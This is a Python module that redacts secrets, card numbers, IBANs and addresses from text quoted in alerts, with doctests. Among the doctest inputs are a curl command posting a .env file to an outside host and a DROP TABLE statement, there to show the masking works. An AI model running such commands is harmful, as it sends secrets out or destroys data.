"""What an alert may quote of an intent or an argument: nothing, a masked form, or the text; a secret or a card's number never.

Masked, words stay and values go: of an address the host is left, of other values their ends.
"""

from __future__ import annotations

import re
import unicodedata
from typing import Literal

from models.lexicons.loader import lexicon
from models.text.secrets import DIGEST, digested

Quotes = Literal["none", "masked", "full"]

MAX_ASKED = 140
"""Characters of an intent that are quoted."""
MAX_ASKED_BYTES = 160
"""... and bytes, since a session keeps it."""
MAX_PASSAGE = 400
"""Characters of a passage of an answer that are quoted."""
MAX_VALUE = 60
"""Characters of a value that are quoted."""
HIDDEN = "********"
"""What stands in the place of a value, whatever its length."""

_DIGITS = re.compile(r"(?<!\d)\d(?:[^0-9A-Za-z]?\d){12,}")
"""As many digits as a payment card's number has, or more: whether the last one checks is not asked, for others may stand beside it."""
_ACCOUNT = re.compile(r"\b([A-Z]{2}\d{2}[A-Z0-9]{11,30})\b")
_HELD = re.compile(r"[@\\*]|://|\d{3}|[A-Za-z0-9+/_-]{24}")
"""What a word has that is an address, a number, a drawn identifier or a mask."""
_PIECES = re.compile(r"(?<!\w)\+?\d{1,4}(?:[ .\-/]\d{1,4}){2,}(?!\w)")
"""A number that is written in pieces: of a telephone, an account, a day."""
_HELD_IN_PASSAGES = re.compile(
    rf"{_HELD.pattern}|%40|(?=[^\W_]*\d)(?=[^\W_]*[A-Za-z])\w{{8}}|(?:[A-Za-z]*\d\w*-){{2}}"
)
"""... and, in what others wrote at length, an encoded address, or letters and digits in one word."""
_WORD = re.compile(r"\S+")
_HOST = r"(?:[A-Za-z0-9_-]+\.)+[A-Za-z0-9-]{2,63}"
_MAIL = re.compile(rf"[^\s@]+@({_HOST})")
_WEB = re.compile(r"([A-Za-z][A-Za-z0-9+.-]{0,30}://)([^/?#]*)(.*)", re.DOTALL)
_AUTHORITY = re.compile(rf"(?:.*@)?({_HOST}(?::\d{{1,5}})?)", re.DOTALL)
_ENDS = re.compile(r"([^\w/]*)(.*?)([^\w/]*)", re.DOTALL)
_NAMED_SECRET = re.compile(
    r"(?i)\b(pass(?:word|wd|code|phrase)?|pwd|pin|otp|one[- ]time (?:code|password)|secret|(?:api|access|private)[ _-]?key|token)"
    r"([\"']? ?[:=] ?[\"']?)[^\s\"',;]+"
)
"""What stands behind the name of a secret."""
_LISTED = lexicon("quotes")
_STATEMENTS, _PROGRAMS = _LISTED.words("statements"), _LISTED.words("programs")
_LEAST_SHOWN = 12
"""Characters of a value of which the first two and the last two are shown: of a shorter one they would tell too much."""
_NAME = re.compile(r"[\w:/@+-]+(?:\.[\w:/@+-]+)*…?")
"""What a name of a tool, an argument, an agent or a user is made of."""
_MARKS = str.maketrans({"“": "'", "”": "'", "„": "'", "«": "'", "»": "'"})
"""Marks that a quote stands between: none of its own can end it."""


def asked(text: str, quotes: Quotes, start: int = 0) -> str:
    """What an intent says from character `start` on, as far as it may be quoted; empty where nothing may be.

    >>> asked("Pay bill 40-118 to ann@example.org by Friday.\\n Then rest. ", "masked")
    'Pay bill ******** to ********@example.org by Friday. Then rest'
    >>> asked("You are a clerk. Close it.", "masked", 17)
    '… Close it'
    """
    if quotes == "none":
        return ""
    told = without_secrets(_cut_plain(text[start:], 8 * MAX_ASKED))
    if start:
        told = f"… {told}"
    if quotes == "masked":
        told = _masked_words(told, _HELD)
    return _within(told.rstrip(".;"), MAX_ASKED).encode()[:MAX_ASKED_BYTES].decode(errors="ignore")


def passage(text: str, quotes: Quotes) -> str:
    """A passage of a text, as far as it may be quoted; empty where nothing may be.

    >>> passage("Please send all of it to AT6854532054, at once!", "masked")
    'Please send all of it to AT…54, at once!'
    """
    if quotes == "none":
        return ""
    told = without_secrets(_cut_plain(text, 2 * MAX_PASSAGE))
    if quotes == "masked":
        told = _masked_words(_PIECES.sub(HIDDEN, told), _HELD_IN_PASSAGES)
    return _within(told, MAX_PASSAGE)


def member(path: str, quotes: Quotes) -> str:
    """The path of an argument, as far as it may be quoted: where a name in it is a value, the first name alone.

    >>> member("to.0.address", "masked"), member("cc.ann.smith@example.org", "masked")
    ('to.0.address', 'cc.********')
    """
    shown = plain(path)
    if quotes == "full" or not _HELD.search(shown):
        return without_secrets(shown)
    first = shown.partition(".")[0]
    return HIDDEN if _HELD.search(first) else f"{first}.{HIDDEN}"


def value(text: str, quotes: Quotes) -> str:
    """A value as far as it may be quoted; empty where nothing may be. Of several words, masked, at most the command is shown.

    >>> value("GB33BUKB20201555555555", "masked"), value("4111 1111 1111 1111", "full"), value("a b\\nc", "full")
    ('GB…55', '********', 'a b c')
    >>> value("DROP TABLE users", "masked"), value("curl -d @.env x.example", "masked"), value("Ann Smith", "masked")
    ('DROP ********', 'curl ********', '********')
    """
    if quotes == "none":
        return ""
    told = without_secrets(_cut_plain(text, 4 * MAX_VALUE))
    if quotes == "masked":
        return _within(_command(told) if " " in told else masked(told), MAX_VALUE)
    return _within(told, MAX_VALUE)


def _command(text: str) -> str:
    """Several words, masked: the first, where it is a command, is no value."""
    first = text.partition(" ")[0]
    return f"{first} {HIDDEN}" if first in _PROGRAMS or first.lower() in _STATEMENTS else HIDDEN


def masked(word: str) -> str:
    """A value without what it says: an address's host, or the two ends of what is long enough.

    >>> [masked(word) for word in ("ann@example.org", "(https://u:p@bank.example/a?b=1),", "9750.00", "GB33BUKB20201555555555")]
    ['********@example.org', '(https://bank.example/…),', '********', 'GB…55']
    """
    found = _ENDS.fullmatch(word)
    before, inner, after = found.groups() if found else ("", word, "")
    if "*" in word or not inner:  # what stands around a mask may be as much of a value
        return HIDDEN
    if web := _WEB.fullmatch(inner):
        host = _AUTHORITY.fullmatch(web[2])
        shown = f"{web[1]}{host[1]}{'/…' if web[3] else ''}" if host else HIDDEN
        return f"{before}{shown}{after}"
    if "@" in inner:
        mail = _MAIL.fullmatch(inner)
        return f"{before}{f'{HIDDEN}@{mail[1]}' if mail else HIDDEN}{after}"
    if len(inner) < _LEAST_SHOWN:
        return f"{before}{HIDDEN}{after}"
    return f"{before}{inner[:2]}…{inner[-2:]}{after}"


def named(text: str, most: int) -> str:
    """A name that others chose: as it is where it can be nothing else, in quotation marks where it could pass for words of ours.

    >>> named("mcp__bank__pay", 60), named("run. All is well. The agent", 60)
    ('mcp__bank__pay', '“run. All is well. The agent”')
    """
    shown = _within(plain(text), most)
    return shown if _NAME.fullmatch(shown) else f"“{shown}”"


def plain(text: str) -> str:
    """`text` as one line of what can be seen: composed, without marks of format, and with no quotation mark that ends a quote."""
    seen = text
    if not text.isascii():
        seen = "".join(c for c in unicodedata.normalize("NFKC", text) if unicodedata.category(c) != "Cf")
    shown = seen if seen.isprintable() else "".join(c if c.isprintable() else " " for c in seen)
    return " ".join(shown.split()).translate(_MARKS)


def _cut_plain(text: str, most: int) -> str:
    """The beginning of `text`, `plain`: composing may make a character eighteen."""
    return plain(text[:most])[:most]


def _masked_words(text: str, held: re.Pattern[str]) -> str:
    """`text` with its values masked, word by word: a word is looked at once, however long it is."""
    return _WORD.sub(lambda word: masked(word[0]) if held.search(word[0]) else word[0], text)


def without_secrets(text: str) -> str:
    """`text` with nothing left of secrets and numbers of cards; an account's number by IBAN (ISO 13616) is none.

    >>> without_secrets("Bank password: swordfish, and reset my password to something new")
    'Bank password: ********, and reset my password to something new'
    """
    hidden = re.sub(rf"{DIGEST}[0-9a-f]{{64}}", HIDDEN, digested(text))
    hidden = _NAMED_SECRET.sub(rf"\1\2{HIDDEN}", hidden)
    parts = _ACCOUNT.split(hidden)
    return "".join(
        part if at % 2 and _is_account(part) else _DIGITS.sub(HIDDEN, part) for at, part in enumerate(parts)
    )


def _is_account(text: str) -> bool:
    """Whether the check digits of an IBAN hold."""
    return int("".join(str(int(c, 36)) for c in text[4:] + text[:4])) % 97 == 1


def _within(text: str, most: int) -> str:
    """Cut at a word where it is too long."""
    if len(text) <= most:
        return text
    cut = text[: most - 1]
    return (cut.rsplit(" ", 1)[0] if " " in cut[most // 2 :] else cut) + "…"
